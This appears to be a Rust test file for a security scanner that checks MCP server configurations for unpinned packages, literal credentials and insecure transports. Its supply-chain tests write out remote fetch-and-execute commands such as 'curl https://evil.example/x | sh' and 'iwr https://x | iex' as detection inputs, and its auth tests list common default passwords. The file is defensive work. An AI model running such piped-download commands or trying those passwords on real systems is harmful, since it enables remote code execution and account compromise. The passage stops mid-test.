//! Table-driven tests: the earlier implementation's vectors (engines-reference
//! §10.A–§10.E), a firing case and a near miss per rule, and every deliberate
//! divergence, named `…_unlike_reference`.
// Test-harness messages (a skipped shell, a measured ratio) are not product output.
#![allow(clippy::disallowed_macros)]

use super::auth::audit_server;
use super::supply::check_launch;
use crate::model::{EngineFinding, ServerSpec};
use crate::protocol::ServerBody;
use crate::rules::RuleId;
use crate::text::redact::redact_secret;

const LIT: &str = "9f8e7d6c5b4a";
const LIT24: &str = "9f8e7d6c5b4a3e2d1c0b9a8f";
const REAL: &str = "aB3xK9mQ7pL2wR5tY8vN4jH6";

fn kv(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
    pairs
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect()
}

fn url(u: &str) -> ServerSpec {
    ServerSpec::remote(u)
}

fn stdio(cmd: &str, args: &[&str]) -> ServerSpec {
    ServerSpec::stdio(cmd, args)
}

fn ids(f: &[EngineFinding]) -> Vec<&'static str> {
    f.iter().map(|x| x.rule.as_str()).collect()
}

/// `AUTH(v)` of the reference vectors: a remote server with an Authorization header.
fn auth(v: &str) -> Vec<EngineFinding> {
    let s = url("https://x.example.com").with_headers(kv(&[("Authorization", v)]));
    audit_server("s", &s)
}

#[derive(Debug, PartialEq)]
enum Verdict {
    High,
    Low,
    Clean,
    Other,
}

fn verdict(v: &str) -> Verdict {
    let f = auth(v);
    let token = f.iter().any(|x| x.rule == RuleId::AuthTokenInConfig);
    let low = f.iter().any(|x| x.rule == RuleId::AuthPlaceholderSecret);
    match (token, low, f.is_empty()) {
        (_, _, true) => Verdict::Clean,
        (true, false, _) => Verdict::High,
        (false, true, _) => Verdict::Low,
        _ => Verdict::Other,
    }
}

fn assert_verdict(values: &[String], want: Verdict) {
    for v in values {
        assert_eq!(verdict(v), want, "value {v:?}: {:?}", auth(v));
    }
}

fn strs(v: &[&str]) -> Vec<String> {
    v.iter().map(|s| s.to_string()).collect()
}

// ---- §10.A redact_secret -------------------------------------------------------

#[test]
fn redact_vectors_10a() {
    for (raw, want) in [
        ("", "…(len<=3)"),
        ("a", "…(len<=3)"),
        ("ab", "a…(len<=3)"),
        ("abc", "a…(len<=3)"),
        ("abcd", "ab…(len=4)"),
        ("sk-abcdefghij1234567890", "sk-a…(len=23)"),
        ("sk-1", "sk…(len=4)"),
        ("abcde", "ab…(len=5)"),
        ("日本語パスワード鍵", "日本語パ…(len=9)"),
        ("ab😀cd😀ef", "ab😀c…(len=8)"),
        ("%TOKEN%", "%TO…(len=7)"),
    ] {
        assert_eq!(redact_secret(raw), want, "{raw:?}");
    }
}

#[test]
fn redact_property_prefix_is_bounded() {
    let mut s = String::new();
    for c in "x😀é\u{0301}日".chars().cycle().take(40) {
        s.push(c);
        let n = s.chars().count();
        let out = redact_secret(&s);
        let k = (n / 2).min(4);
        let prefix: String = s.chars().take(k).collect();
        let tag = if n <= 3 {
            "(len<=3)".to_string()
        } else {
            format!("(len={n})")
        };
        assert_eq!(out, format!("{prefix}…{tag}"));
    }
}

// ---- §10.C supply ---------------------------------------------------------------

fn sup(cmd: &str, args: &[&str]) -> Vec<(String, String, String)> {
    let a: Vec<String> = args.iter().map(|s| s.to_string()).collect();
    check_launch(cmd, &a)
        .into_iter()
        .map(|f| {
            (
                f.rule.as_str().to_string(),
                f.message.into_owned(),
                f.snippet,
            )
        })
        .collect()
}

fn one(rule: &str, msg: &str, snippet: &str) -> Vec<(String, String, String)> {
    vec![(rule.to_string(), msg.to_string(), snippet.to_string())]
}

const NPX_MSG: &str = "Unpinned npx package (resolves latest at run)";

#[test]
fn supply_vectors_10c() {
    assert_eq!(
        sup("npx", &["some-mcp-server"]),
        one("WRD-SUP-NPX-UNPINNED", NPX_MSG, "some-mcp-server")
    );
    assert!(sup("npx", &["some-mcp-server@1.2.3"]).is_empty());
    assert_eq!(
        sup("npx", &["some-mcp-server@latest"]),
        one(
            "WRD-SUP-LATEST-TAG",
            "Explicit floating 'latest' tag in npx spec",
            "some-mcp-server@latest"
        )
    );
    assert_eq!(
        sup("uvx", &["mcp-thing"]),
        one(
            "WRD-SUP-UVX-UNPINNED",
            "Unpinned uvx package (mutable upstream)",
            "mcp-thing"
        )
    );
    assert_eq!(
        sup("pip", &["install", "requests"]),
        one(
            "WRD-SUP-PIP-UNPINNED",
            "Unpinned pip install target (mutable dependency)",
            "requests"
        )
    );
    assert!(sup("pip", &["install", "requests==2.31.0"]).is_empty());
    assert!(sup("node", &["./build/index.js"]).is_empty());
    assert_eq!(
        sup("sh", &["-c", "curl https://evil.example/x | sh"]),
        one(
            "WRD-SUP-CURL-PIPE",
            "Launch reconstructs a remote-fetch-execute (curl|sh / wget|sh) shape",
            "sh -c curl https://evil.example/x | sh"
        )
    );
    assert_eq!(RuleId::SupCurlPipe.severity().as_str(), "critical");
    assert!(sup(
        "npx",
        &["-y", "@modelcontextprotocol/server-memory@2026.1.26"]
    )
    .is_empty());
    assert_eq!(
        sup(
            "npx",
            &["-y", "@modelcontextprotocol/server-filesystem", "/tmp"]
        ),
        one(
            "WRD-SUP-NPX-UNPINNED",
            NPX_MSG,
            "@modelcontextprotocol/server-filesystem"
        )
    );
    assert_eq!(
        sup("uvx", &["mcp==latest"]),
        one(
            "WRD-SUP-LATEST-TAG",
            "Explicit floating 'latest' tag in uvx spec",
            "mcp==latest"
        )
    );
    assert!(sup("pip", &["install", "--require-hashes", "-r", "req.txt"]).is_empty());
    assert!(sup("npx", &["@scope/pkg@sha256:abcdef"]).is_empty());
    assert_eq!(
        sup("npx", &["pkg@^1.2.3"]),
        one("WRD-SUP-NPX-UNPINNED", NPX_MSG, "pkg@^1.2.3")
    );
    assert!(sup("npx", &["pkg@1"]).is_empty());
    assert_eq!(
        sup("NPX", &["pkg"]),
        one("WRD-SUP-NPX-UNPINNED", NPX_MSG, "pkg")
    );
    assert_eq!(
        sup("npx", &["PKG@LATEST"]),
        one("WRD-SUP-NPX-UNPINNED", NPX_MSG, "PKG@LATEST")
    );
    assert_eq!(
        sup("bash", &["-c", "wget -qO- https://x | bash"]),
        one(
            "WRD-SUP-CURL-PIPE",
            "Launch reconstructs a remote-fetch-execute (curl|sh / wget|sh) shape",
            "bash -c wget -qO- https://x | bash"
        )
    );
}

#[test]
fn server_arguments_are_not_packages_unlike_reference() {
    // Vector 40: the reference reported KEY123 as an unpinned package, raw.
    assert!(sup(
        "npx",
        &["-y", "@upstash/context7-mcp@1.0.0", "--api-key", "KEY123"]
    )
    .is_empty());
    assert!(sup(
        "npx",
        &[
            "-y",
            "@x/server@1.0.0",
            "--repository",
            "path/to/repo",
            "--",
            "latest"
        ]
    )
    .is_empty());
    // Vector 41: `--from` names the package; the positional is the command.
    let sha = "a".repeat(40);
    let from = format!("git+https://github.com/a/b@{sha}");
    assert!(sup("uvx", &["--from", &from, "b"]).is_empty());
    assert_eq!(
        sup("uvx", &["--from", "git+https://github.com/a/b", "b"]),
        one(
            "WRD-SUP-UVX-UNPINNED",
            "Unpinned uvx package (mutable upstream)",
            "git+https://github.com/a/b"
        )
    );
}

#[test]
fn npx_options_that_take_values_unlike_reference() {
    assert_eq!(
        sup("npx", &["--package", "foo@latest", "bar"]),
        one(
            "WRD-SUP-LATEST-TAG",
            "Explicit floating 'latest' tag in npx spec",
            "foo@latest"
        )
    );
    assert_eq!(
        sup("npx", &["--package=foo", "bar"]),
        one("WRD-SUP-NPX-UNPINNED", NPX_MSG, "foo")
    );
    assert_eq!(
        sup("npx", &["-p", "foo@1.0.0", "-p", "baz", "bar"]),
        one("WRD-SUP-NPX-UNPINNED", NPX_MSG, "baz")
    );
    assert!(sup("npx", &["-c", "some-command --flag"]).is_empty());
    assert!(sup("npx", &["--registry", "https://r.example", "pkg@1.0.0"]).is_empty());
    assert_eq!(
        sup("npx", &["-y", "--", "pkg", "arg"]),
        one("WRD-SUP-NPX-UNPINNED", NPX_MSG, "pkg")
    );
}

#[test]
fn launcher_forms_unlike_reference() {
    for cmd in [
        "/usr/local/bin/npx",
        "npx.cmd",
        "C:\\Program Files\\nodejs\\npx.exe",
        "NPX.CMD",
    ] {
        assert_eq!(
            sup(cmd, &["-y", "pkg"]),
            one("WRD-SUP-NPX-UNPINNED", NPX_MSG, "pkg"),
            "{cmd}"
        );
    }
    assert_eq!(sup("bunx", &["pkg"])[0].0, "WRD-SUP-NPX-UNPINNED");
    assert_eq!(
        sup("pnpm", &["dlx", "pkg"])[0].1,
        "Unpinned pnpm dlx package (resolves latest at run)"
    );
    assert_eq!(sup("yarn", &["dlx", "pkg"])[0].0, "WRD-SUP-NPX-UNPINNED");
    assert_eq!(
        sup("npm", &["exec", "--", "pkg"])[0].0,
        "WRD-SUP-NPX-UNPINNED"
    );
    assert!(sup("pnpm", &["dlx", "pkg@2.0.1"]).is_empty());
    assert_eq!(
        sup("uv", &["tool", "run", "mcp-thing"])[0].0,
        "WRD-SUP-UVX-UNPINNED"
    );
    assert_eq!(
        sup("pipx", &["run", "mcp-thing"])[0].1,
        "Unpinned pipx run package (mutable upstream)"
    );
    assert!(sup("pipx", &["run", "--spec", "mcp-thing==1.0", "mcp"]).is_empty());
    assert_eq!(
        sup("uv", &["run", "--with", "httpx", "server.py"])[0].2,
        "httpx"
    );
    assert!(sup("uv", &["run", "server.py"]).is_empty());
    assert_eq!(sup("cmd", &["/c", "npx", "-y", "pkg"])[0].2, "pkg");
    assert_eq!(
        sup("python", &["-m", "pip", "install", "requests"])[0].0,
        "WRD-SUP-PIP-UNPINNED"
    );
    assert_eq!(
        sup("uv", &["pip", "install", "requests"])[0].0,
        "WRD-SUP-PIP-UNPINNED"
    );
    assert!(sup("pip", &["install", "-r", "requirements.txt"]).is_empty());
    assert!(sup("pip", &["download", "requests"]).is_empty());
    assert_eq!(sup("sh", &["-c", "npx -y pkg && echo ok"])[0].2, "pkg");
    // Near misses: not a launcher.
    assert!(sup("npxx", &["pkg"]).is_empty());
    assert!(sup("node", &["npx-like.js", "pkg"]).is_empty());
}

#[test]
fn uv_at_version_is_pinned_unlike_reference() {
    assert!(sup("uvx", &["mcp-server-fetch@2025.1.1"]).is_empty());
    assert!(sup("uvx", &["mcp[cli]@1.2.0"]).is_empty());
    assert_eq!(
        sup("pipx", &["run", "mcp@1.2.0"])[0].0,
        "WRD-SUP-UVX-UNPINNED"
    );
}

#[test]
fn windows_paths_are_local_unlike_reference() {
    assert!(sup("npx", &["C:\\tools\\srv"]).is_empty());
    assert!(sup("npx", &[".\\srv"]).is_empty());
}

#[test]
fn curl_pipe_shapes() {
    let c = |cmd: &str, args: &[&str]| sup(cmd, args).iter().any(|f| f.0 == "WRD-SUP-CURL-PIPE");
    assert!(c("sh", &["-c", "curl -fsSL https://x/i.sh | sudo bash"]));
    assert!(c("bash", &["-lc", "/usr/bin/curl -s https://x | python3"]));
    assert!(c("bash", &["-c", "$(curl -fsSL https://x/install)"]));
    assert!(c("bash", &["-c", "eval \"$(curl -fsSL https://x)\""]));
    assert!(c("bash", &["-c", "bash <(wget -qO- https://x)"]));
    assert!(c("sh", &["-c", "curl https://x | tee /tmp/i | sh"]));
    assert!(c("pwsh", &["-Command", "iwr https://x | iex"]));
    assert!(c("curl", &["-s", "https://x", "|", "sh"]));
    // Near misses.
    assert!(!c("sh", &["-c", "curl https://x -o /tmp/f && echo done"]));
    assert!(!c("sh", &["-c", "cat f | sh"]));
    assert!(!c("npx", &["-y", "curl-mcp@1.0.0"]));
}

#[test]
fn curl_substring_is_not_a_fetch_unlike_reference() {
    // Vector 42, second half: the reference flagged `echo curly | sh`.
    assert!(sup("sh", &["-c", "echo curly | sh"]).is_empty());
}

#[test]
fn supply_snippets_never_carry_credentials_unlike_reference() {
    let f = sup(
        "sh",
        &["-c", "curl -H 'Authorization: Bearer abc123secret' https://u:pw@x.example/i?token=zz9 | sh --api-key KEY123"],
    );
    assert_eq!(f.len(), 1);
    for bad in ["abc123secret", "pw@", "zz9", "KEY123"] {
        assert!(!f[0].2.contains(bad), "{bad} in {}", f[0].2);
    }
    let gh = "ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8";
    let spec = format!("pkg-{gh}");
    let f = sup("npx", &[&spec]);
    assert_eq!(f[0].0, "WRD-SUP-NPX-UNPINNED");
    assert!(
        !f[0].2.contains(gh) && f[0].2.starts_with("pkg-ghp_"),
        "{}",
        f[0].2
    );
    let f = sup(
        "uvx",
        &["--from", "git+https://oauth2:tok3n@gitlab.example/a/b", "b"],
    );
    assert_eq!(f[0].2, "git+https://REDACTED@gitlab.example/a/b");
    let long = "x".repeat(300);
    let f = sup("sh", &["-c", &format!("curl https://x/{long} | sh")]);
    assert_eq!(f[0].2.chars().count(), 120);
}

// ---- §10.E auth -----------------------------------------------------------------

#[test]
fn auth_vector_49_noauth_and_plaintext() {
    let f = audit_server("remote", &url("http://mcp.example.com/sse"));
    assert_eq!(f.len(), 2);
    assert_eq!(f[0].rule, RuleId::AuthNoAuth);
    assert_eq!(
        f[0].message,
        "remote MCP endpoint 'mcp.example.com' declares no authentication (no Authorization/token header or env)"
    );
    assert_eq!(f[0].snippet, "mcp.example.com");
    assert_eq!(f[1].rule, RuleId::AuthPlaintextHttp);
    assert_eq!(
        f[1].message,
        "remote MCP endpoint 'mcp.example.com' uses cleartext http://; use https://"
    );
    assert_eq!(f[1].snippet, "http://mcp.example.com");
    assert_eq!(RuleId::AuthNoAuth.severity().as_str(), "medium");
    assert_eq!(RuleId::AuthPlaintextHttp.severity().as_str(), "high");
}

#[test]
fn auth_vectors_50_to_56() {
    let ok =
        url("https://mcp.example.com/sse").with_headers(kv(&[("Authorization", "${MCP_TOKEN}")]));
    assert!(audit_server("s", &ok).is_empty());
    assert!(audit_server("s", &url("http://127.0.0.1:8080/mcp")).is_empty());

    let f = auth("Bearer sk-abcdefghijklmnopqrstuvwx");
    assert_eq!(ids(&f), ["WRD-AUTH-TOKEN-IN-CONFIG", "WRD-SEC-OPENAI"]);
    assert_eq!(f[0].snippet, "Bear…(len=34)");
    assert_eq!(f[1].snippet, "sk-a…(len=27)");
    assert!(f
        .iter()
        .all(|x| !x.snippet.contains("sk-abcdefghijklmnopqrstuvwx")));

    let env = |v: &str| stdio("node", &["s.js"]).with_env(kv(&[("API_TOKEN", v)]));
    assert!(audit_server("s", &env("${API_TOKEN}")).is_empty());
    let gh = format!("ghp_{}", "a".repeat(36));
    let f = audit_server("s", &env(&gh));
    assert_eq!(ids(&f), ["WRD-AUTH-TOKEN-IN-CONFIG", "WRD-SEC-GITHUB"]);
    assert_eq!(
        f[0].message,
        "auth key 'API_TOKEN' holds a literal credential in config; reference a secret manager (${VAR}) instead"
    );
    assert_eq!(f[0].snippet, "ghp_…(len=40)");
    assert_eq!(RuleId::AuthTokenInConfig.severity().as_str(), "high");

    assert!(audit_server(
        "s",
        &stdio("npx", &["-y", "@modelcontextprotocol/server-filesystem"])
    )
    .is_empty());
}

#[test]
fn auth_vector_57_clean() {
    assert_verdict(
        &strs(&[
            "${GITHUB_TOKEN:-}",
            "${API_KEY:?required}",
            "op://Private/GitHub/token",
            "vault://secret/data/app#key",
            "%USERPROFILE_TOKEN%",
            "~/.config/app/keys.json",
            "/Users/me/.secrets/token",
        ]),
        Verdict::Clean,
    );
}

#[test]
fn auth_vectors_58_to_65_placeholders_and_literals() {
    assert_verdict(
        &strs(&[
            "YOUR KEY GOES HERE",
            "<your-api-key>",
            "xxx",
            "changeme",
            "basic",
            "your_github_token",
            "api-key",
        ]),
        Verdict::Low,
    );
    assert!(auth(REAL)
        .iter()
        .any(|f| f.rule == RuleId::AuthTokenInConfig));
    assert_verdict(
        &strs(&[
            "hunter2!",
            "p@ss-w0rd",
            "Xk9#mQ2p",
            "a1b2c3d4e5",
            "t0ken",
            "p@ssword",
        ]),
        Verdict::High,
    );
    for v in [
        "adherenceTokenValue",
        "fillmoreStreetPass",
        "nonesuchCredential",
        "exampledotcomPass",
    ] {
        assert!(
            auth(v).iter().any(|f| f.rule == RuleId::AuthTokenInConfig),
            "{v}"
        );
    }
    assert_verdict(
        &strs(&[
            "goes-here",
            "fill-me-in",
            "my-api-key",
            "change_me",
            "Bearer <token>",
            "sk-...",
        ]),
        Verdict::Low,
    );
    let f = auth("ghp_exampleA1b2C3d4E5f6G7h8I9j0K1l2M3n4O");
    let r = ids(&f);
    assert!(r.contains(&"WRD-SEC-GITHUB") && r.contains(&"WRD-AUTH-TOKEN-IN-CONFIG"));
    assert!(!r.contains(&"WRD-AUTH-PLACEHOLDER-SECRET"));
    assert_verdict(&strs(&["Bearer <token> aB3xK9mQ7pL2wR5t"]), Verdict::High);
    for v in ["/9j/4AAQSkZJRgABAQAAAQABAAD", "/abc+def=="] {
        assert!(
            auth(v).iter().any(|f| f.rule == RuleId::AuthTokenInConfig),
            "{v}"
        );
    }
    assert!(auth("/etc/app/secrets/token").is_empty());
    let f = auth("YOUR-KEY-GOES-HERE");
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].rule, RuleId::AuthPlaceholderSecret);
    assert_eq!(f[0].rule.severity().as_str(), "low");
    assert_eq!(
        f[0].message,
        "auth key 'Authorization' holds a placeholder, not a working credential; wire it to a secret reference (${VAR})"
    );
    assert_eq!(f[0].snippet, "YOUR…(len=18)");
}

#[test]
fn auth_vectors_66_to_73_tightened_rules() {
    assert_verdict(
        &strs(&[
            "${TOKEN:-9f8e7d6c5b4a}",
            "${TOKEN-9f8e7d6c5b4a}",
            "${TOKEN:+9f8e7d6c5b4a}",
            "Bearer ${TOKEN:-hunter2!}",
            "${TOKEN:=hunter2!}",
            "${T:-${U:-hunter2!}}",
            "${T:-${U:-9f8e7d6c5b4a}}",
        ]),
        Verdict::High,
    );
    assert_verdict(
        &strs(&[
            "${TOKEN:-}",
            "${TOKEN:-${OTHER}}",
            "${TOKEN:-$OTHER}",
            "${TOKEN:?required}",
            "${TOKEN?required}",
            "${T:-${U:-}}",
            "${T:-${U:-changeme}}",
            "${TOKEN:-changeme}",
        ]),
        Verdict::Clean,
    );
    assert_verdict(
        &strs(&[
            "example-9f8e7d6c5b4a",
            "your-key-9f8e7d6c5b4a",
            "placeholder9f8e7d6c5b4a",
            "YOUR KEY GOES HERE 12345 9f8e7d6c5b4a",
        ]),
        Verdict::High,
    );
    assert_verdict(
        &strs(&[
            "your-github-token",
            "YOUR KEY GOES HERE",
            "your-api-key-goes-here-12345",
            "YOUR_API_KEY_1234567890",
        ]),
        Verdict::Low,
    );
    assert_verdict(
        &strs(&[
            "correcthorse ${TOKEN}",
            "hunter ${TOKEN}",
            "correcthorse <token>",
        ]),
        Verdict::High,
    );
    for scheme in [
        "Bearer",
        "Token",
        "Basic",
        "ApiKey",
        "Negotiate",
        "Digest",
        "bearer",
    ] {
        assert_eq!(
            verdict(&format!("{scheme} ${{TOKEN}}")),
            Verdict::Clean,
            "{scheme}"
        );
        assert_eq!(
            verdict(&format!("{scheme} <token>")),
            Verdict::Low,
            "{scheme}"
        );
    }
    assert_verdict(
        &strs(&[
            "changeit",
            "raspberry",
            "postgres",
            "grafana",
            "elastic",
            "letmein",
            "guest",
            "toor",
            "admin",
            "password",
            "root",
            "secret",
            "test",
            "qwerty",
            "welcome",
            "dragon",
            "iloveyou",
            "hunter",
            "monkey",
        ]),
        Verdict::High,
    );
    assert_verdict(
        &strs(&[
            "basic",
            "Bearer",
            "token",
            "apikey",
            "api-key",
            "api_key",
            "digest",
            "negotiate",
            "oauth",
            "none",
            "changeme",
        ]),
        Verdict::Low,
    );
    assert_verdict(
        &strs(&[
            "op://9f8e7d6c5b4a",
            "vault://9f8e7d6c5b4a",
            "~/9f8e7d6c5b4a",
            "/etc/9f8e7d6c5b4a3e2d1c0b9a8f",
            "./9f8e7d6c5b4a",
            "C:\\9f8e7d6c5b4a",
            "/9j/4AAQSkZJRgABAQAAAQABAAD",
            "/abc+def==",
            "op://a/9f8e7d6c5b4a3e2d1c0b9a8f",
            "~/.config/9f8e7d6c5b4a3e2d1c0b9a8f",
            "/a/b/9f8e7d6c5b4a3e2d1c0b9a8f",
            "C:\\Users\\9f8e7d6c5b4a3e2d1c0b9a8f",
            "~/.config/GHSAT0AAAAAABCDEFGHIJ",
        ]),
        Verdict::High,
    );
    assert_verdict(
        &strs(&[
            "op://Private/GitHub/token",
            "vault://secret/data/app#key",
            "~/.config/app/keys.json",
            "/etc/app/secrets/token",
            "./secrets/token.txt",
            "../keys/app.json",
            "C:\\Users\\me\\keys.json",
            "~/.config/gcloud/application_default_credentials.json",
        ]),
        Verdict::Clean,
    );
    assert_verdict(&strs(&["sk-...", "your-key...", "..."]), Verdict::Low);
    assert_verdict(
        &strs(&[
            "abc...9f8e7d6c5b4a",
            "9f8e7d6c5b4a3e2d1c0b9a8f...",
            "9f8e7d6c5b4a...x",
        ]),
        Verdict::High,
    );
    assert_eq!(LIT.len(), 12);
}

#[test]
fn auth_vectors_74_to_76_negative_twins() {
    let twins = [
        ("Bearer ", ""),
        ("Token ", ""),
        ("Basic ", ""),
        ("ApiKey ", ""),
        ("Negotiate ", ""),
        ("Digest ", ""),
        ("${TOKEN:-", "}"),
        ("${T:-${U:-", "}}"),
        ("<token> ", ""),
        ("op://Private/GitHub/", ""),
        ("your-key-", ""),
        ("changeme-", ""),
        ("example/", ""),
        ("", "..."),
        ("<your-api-key>", ""),
        ("~/.config/app/", ""),
    ];
    let values: Vec<String> = twins
        .iter()
        .map(|(p, s)| format!("{p}{LIT24}{s}"))
        .collect();
    assert_verdict(&values, Verdict::High);
    assert_verdict(&[format!("op://Private/GitHub/{REAL}")], Verdict::High);
    assert!(auth(&format!("your-key-{REAL}"))
        .iter()
        .any(|f| f.rule == RuleId::SecEntropy));
    assert_verdict(
        &strs(&[
            "Bearer ${GMAIL_TOKEN}",
            "bearer $GMAIL_TOKEN",
            "Token {{ secret }}",
            "${T}",
        ]),
        Verdict::Clean,
    );
    assert!(auth("Bearer sk-abcdefghijklmnopqrst ${T}")
        .iter()
        .any(|f| f.rule == RuleId::AuthTokenInConfig));
}

#[test]
fn auth_vector_77_userinfo() {
    let f = audit_server(
        "userinfo",
        &url("https://svcuser:s3cr3t-token@mcp.example.com/sse"),
    );
    assert!(f.iter().any(|x| x.rule == RuleId::AuthUrlCredential));
    let cred = f.iter().find(|x| x.rule == RuleId::AuthUrlCredential);
    assert_eq!(
        cred.map(|x| x.snippet.as_str()),
        Some("https://mcp.example.com")
    );
    assert_eq!(
        cred.map(|x| &*x.message),
        Some("MCP endpoint URL embeds a userinfo credential; move it to a header referencing a secret manager")
    );
    for x in &f {
        assert!(!x.snippet.contains("s3cr3t-token") && !x.message.contains("s3cr3t-token"));
    }
}

#[test]
fn userinfo_counts_as_auth_material_unlike_reference() {
    // The reference also reported NOAUTH for vector 77.
    let f = audit_server(
        "userinfo",
        &url("https://svcuser:s3cr3t-token@mcp.example.com/sse"),
    );
    assert!(!f.iter().any(|x| x.rule == RuleId::AuthNoAuth));
}

#[test]
fn auth_vectors_79_to_82() {
    let s = stdio("node", &["s.js"]).with_env(kv(&[("token", ""), ("empty", "")]));
    assert!(audit_server("s", &s).is_empty());
    let f = auth("abc");
    assert!(f.iter().any(|x| x.snippet == "a…(len<=3)"));
    assert!(f.iter().all(|x| !x.snippet.contains("abc")));
    let ws = spec_of(ServerBody {
        transport: Some("streamable-http".into()),
        ..ServerBody::default()
    });
    let f = audit_server("ws", &ws);
    assert_eq!(ids(&f), ["WRD-AUTH-NOAUTH"]);
    assert_eq!(
        f[0].message,
        "streamable-http MCP server declares no authentication material"
    );
    assert_eq!(f[0].snippet, "ws");
}

#[test]
fn short_bare_secret_is_high_like_newest_reference() {
    // Vector 80: `abc` was a placeholder (low) at 1e4aced; the newest rules say high.
    assert_eq!(verdict("abc"), Verdict::High);
}

#[test]
fn findings_are_sorted_by_rule_then_snippet() {
    let s = url("http://mcp.example.com")
        .with_headers(kv(&[
            ("X-Api-Key", "zzzzliteral"),
            ("Authorization", "aaaaliteral"),
        ]))
        .with_env(kv(&[("B_TOKEN", "changeme")]));
    let f = audit_server("s", &s);
    let keys: Vec<(&str, &str)> = f
        .iter()
        .map(|x| (x.rule.as_str(), x.snippet.as_str()))
        .collect();
    let mut sorted = keys.clone();
    sorted.sort();
    assert_eq!(keys, sorted);
    assert_eq!(
        ids(&f),
        [
            "WRD-AUTH-PLACEHOLDER-SECRET",
            "WRD-AUTH-PLAINTEXT-HTTP",
            "WRD-AUTH-TOKEN-IN-CONFIG",
            "WRD-AUTH-TOKEN-IN-CONFIG"
        ]
    );
}

// ---- divergences on locality, transports and auth material ---------------------

#[test]
fn ipv6_loopback_is_local_unlike_reference() {
    for u in [
        "http://[::1]:8080/mcp",
        "http://127.0.0.2:3000/mcp",
        "http://localhost.:8080",
        "http://[::ffff:127.0.0.1]/mcp",
        "ws://localhost:9000",
    ] {
        assert!(audit_server("s", &url(u)).is_empty(), "{u}");
    }
}

#[test]
fn websocket_cleartext_is_plaintext_unlike_reference() {
    let f = audit_server("s", &url("ws://mcp.example.com/ws"));
    assert!(f.iter().any(|x| x.rule == RuleId::AuthPlaintextHttp
        && x.message == "remote MCP endpoint 'mcp.example.com' uses cleartext ws://; use wss://"
        && x.snippet == "ws://mcp.example.com"));
    let f = audit_server("s", &url("wss://mcp.example.com/ws"));
    assert!(!f.iter().any(|x| x.rule == RuleId::AuthPlaintextHttp));
    let f = audit_server("s", &url("https://mcp.example.com"));
    assert!(!f.iter().any(|x| x.rule == RuleId::AuthPlaintextHttp));
}

#[test]
fn auth_headers_count_as_material_unlike_reference() {
    for h in [
        "X-Auth-Token",
        "X-API-Key",
        "Api-Token",
        "Private-Token",
        "Cookie",
        "Proxy-Authorization",
    ] {
        let s = url("https://mcp.example.com").with_headers(kv(&[(h, "${T}")]));
        assert!(audit_server("s", &s).is_empty(), "{h}");
    }
    // An auth key with a blank value is not material.
    let s = url("https://mcp.example.com").with_headers(kv(&[("Authorization", "")]));
    assert_eq!(ids(&audit_server("s", &s)), ["WRD-AUTH-NOAUTH"]);
    // A non-auth header is not material.
    let s = url("https://mcp.example.com").with_headers(kv(&[("X-Request-Id", "abc")]));
    assert_eq!(ids(&audit_server("s", &s)), ["WRD-AUTH-NOAUTH"]);
}

#[test]
fn query_string_does_not_join_the_host_unlike_reference() {
    let f = audit_server("s", &url("https://mcp.example.com?email=a@b.example"));
    assert!(!f.iter().any(|x| x.rule == RuleId::AuthUrlCredential));
    assert!(f.iter().any(|x| x.snippet == "mcp.example.com"));
}

#[test]
fn schemeless_userinfo_is_a_credential_unlike_reference() {
    let f = audit_server("s", &url("user:pw@mcp.example.com/sse"));
    assert!(f
        .iter()
        .any(|x| x.rule == RuleId::AuthUrlCredential && x.snippet == "mcp.example.com"));
}

#[test]
fn client_transport_spellings_are_remote_unlike_reference() {
    for t in ["streamableHttp", "streamable_http", "ws"] {
        let s = spec_of(ServerBody {
            transport: Some(t.into()),
            ..ServerBody::default()
        });
        assert_eq!(ids(&audit_server("s", &s)), ["WRD-AUTH-NOAUTH"], "{t}");
    }
    let s = spec_of(ServerBody {
        transport: Some("stdio".into()),
        ..ServerBody::default()
    });
    assert!(audit_server("s", &s).is_empty());
}

#[test]
fn word_based_auth_keys_unlike_reference() {
    let env = |k: &str, v: &str| stdio("node", &["s.js"]).with_env(kv(&[(k, v)]));
    for (k, v) in [
        ("MAX_TOKENS", "4096"),
        ("AUTHOR_NAME", "alice"),
        ("AUTH_URL", "https://auth.example.com"),
        ("TOKENIZER", "cl100k"),
    ] {
        assert!(audit_server("s", &env(k, v)).is_empty(), "{k}");
    }
    assert_eq!(
        ids(&audit_server("s", &env("OPENAI_KEY", "hunter2!"))),
        ["WRD-AUTH-TOKEN-IN-CONFIG"]
    );
    assert_eq!(
        ids(&audit_server("s", &env("DB_PASSWORD", "hunter2!"))),
        ["WRD-AUTH-TOKEN-IN-CONFIG"]
    );
}

#[test]
fn percent_var_is_a_reference_everywhere() {
    let s = stdio("node", &["s.js"]).with_env(kv(&[("API_TOKEN", "%TOKEN%")]));
    assert!(audit_server("s", &s).is_empty());
    assert!(audit_server("s", &stdio("node", &["s.js", "--token", "%TOKEN%"])).is_empty());
}

// ---- secrets in args and URLs (new in this implementation) ---------------------

#[test]
fn vendor_secret_in_args_is_reported_unlike_reference() {
    let gh = "ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8";
    let f = audit_server("s", &stdio("node", &["s.js", "--token", gh]));
    assert_eq!(ids(&f), ["WRD-AUTH-TOKEN-IN-CONFIG", "WRD-SEC-GITHUB"]);
    assert_eq!(
        f[0].message,
        "launch argument '--token' holds a literal credential in config; reference a secret manager (${VAR}) instead"
    );
    assert!(f.iter().all(|x| !x.snippet.contains(gh)));
    // Under a flag that is not auth-shaped, only the vendor finding.
    let f = audit_server("s", &stdio("node", &["s.js", "--x", gh]));
    assert_eq!(ids(&f), ["WRD-SEC-GITHUB"]);
    // Entropy in args requires a token shape.
    assert!(audit_server(
        "s",
        &stdio(
            "npx",
            &["-y", "@modelcontextprotocol/server-sequential-thinking"]
        )
    )
    .is_empty());
    assert_eq!(
        ids(&audit_server("s", &stdio("node", &["s.js", REAL]))),
        ["WRD-SEC-ENTROPY"]
    );
}

#[test]
fn credential_args_are_reported_unlike_reference() {
    let uuid = "8b1f2c3d-4e5f-6a7b-8c9d-0e1f2a3b4c5d";
    let f = audit_server(
        "s",
        &stdio(
            "npx",
            &["-y", "@smithery/cli@1.2.3", "run", "@x/y", "--key", uuid],
        ),
    );
    assert_eq!(ids(&f), ["WRD-AUTH-TOKEN-IN-CONFIG"]);
    let f = audit_server(
        "s",
        &stdio(
            "npx",
            &[
                "mcp-remote@1.0.0",
                "https://x.example",
                "--header",
